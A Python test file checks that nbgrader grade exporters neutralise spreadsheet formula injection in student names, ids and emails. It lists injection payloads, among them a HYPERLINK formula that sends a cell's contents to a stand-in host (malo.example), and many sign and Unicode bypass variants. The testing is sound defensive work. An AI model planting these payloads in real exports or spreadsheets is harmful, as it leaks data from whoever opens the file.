"""What a campus or a spreadsheet gets: nothing that calculates, everything else as it is, for whom it was asked."""

import csv
import re

import pandas as pd
import pytest
from nbgrader.api import Gradebook

from helpers.nbgrader_plugins.exports import CanvasExport, GradesExport, MoodleExport
from helpers.nbgrader_plugins.printable import neutral, printable

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # of nbgrader, whose records are right

#: Texts that some spreadsheet or other calculates.
FORMULAS = [
    '=HYPERLINK("http://malo.example/?"&A1,"ver")',
    "+54",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    " =1",
    "\N{NO-BREAK SPACE}=1",
    '"=1"',
    "'=1",
    "“=1”",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\N{MINUS SIGN}1",
    "ana;=1+1;",
    'ana; "=1',
]
#: Texts that are none, by which a campus finds people.
HARMLESS = [
    "ana",
    "ana-maría@example.org",
    "a=b",
    "O'Brien",
    "[grupo 3]",
    "1-2",
    "a;b",
    "007",
    "ana+tag@example.org",
    "#1",
]
EXPORTERS = [GradesExport, MoodleExport, CanvasExport]


def _calculates(cell):
    """Tell whether a cell, or a part of it where semicolons separate, begins with a sign: an apostrophe ends that."""
    signs = "=+@\t\r＝＋－＠\N{MINUS SIGN}-"
    return any(re.match(f'[\\s"“‘]*[{signs}]', part) for part in cell.split(";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas(text):
    """An apostrophe stands before each sign, and nothing else changes but what isn't seen."""
    assert not _calculates(neutral(text))
    assert printable(text) == neutral(text).replace("'", "", text.count(";") or 1)


@pytest.mark.parametrize("text", HARMLESS)
def test_no_formulas(text):
    """They are as they were; numbers are numbers."""
    assert text == neutral(text)
    assert (-1.5, None) == (neutral(-1.5), neutral(None))


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    """Make a gradebook in which a person has each of these as a name, and one of them as an id."""
    url = f"sqlite:///{tmp_path_factory.mktemp('book')}/gradebook.db"
    with Gradebook(url) as gradebook:
        gradebook.add_assignment("-ps1")
        for number, text in enumerate(FORMULAS):
            gradebook.add_student(f"s{number:02}", first_name=text, last_name=text, email=text)
        for text in HARMLESS:
            gradebook.add_student(text, email=f"{text}@example.org")
        gradebook.add_student("=1+1")
    return url


def _export(book, exporter, folder, **chosen):
    target = folder / "out.csv"
    with Gradebook(book) as gradebook:
        exporter(to=str(target), **chosen).export(gradebook)
    return target


@pytest.mark.parametrize("exporter", EXPORTERS)
def test_tables(book, tmp_path, exporter, caplog):
    """No cell is a formula, by csv and by pandas, where people are found by their ids; who isn't is named."""
    target = _export(book, exporter, tmp_path)
    with target.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [] == [cell for cell in cells if _calculates(cell)]

    table = pd.read_csv(target, dtype=str, keep_default_na=False)
    key = {MoodleExport: "ID number", CanvasExport: "SIS User ID"}.get(exporter, "student_id")
    assert {*HARMLESS, "'=1+1"} <= set(table[key])
    warned = "=1+1 va en la columna" in caplog.text
    assert warned == (exporter is not GradesExport)
    assert not any(f"{text} va en la columna" in caplog.text for text in HARMLESS)


@pytest.mark.parametrize(
    ("named", "expected"),
    [
        (["[grupo 3]"], ["[grupo 3]"]),
        (["ana", " O'Brien "], ["O'Brien", "ana"]),
        (['["ana", "#1"]'], ["#1", "ana"]),  # nbgrader's manual
        (["[1]"], None),
        (["nadie"], None),
    ],
)
def test_for_some(book, tmp_path, named, expected):
    """As they are typed after `--student`; who isn't there is said."""
    names = MoodleExport.student.from_string_list(named)
    if expected is None:
        with pytest.raises(LookupError, match="no hay un estudiante"):
            _export(book, MoodleExport, tmp_path, student=names)
        return
    table = pd.read_csv(_export(book, MoodleExport, tmp_path, student=names), dtype=str)
    assert expected == list(table["ID number"])
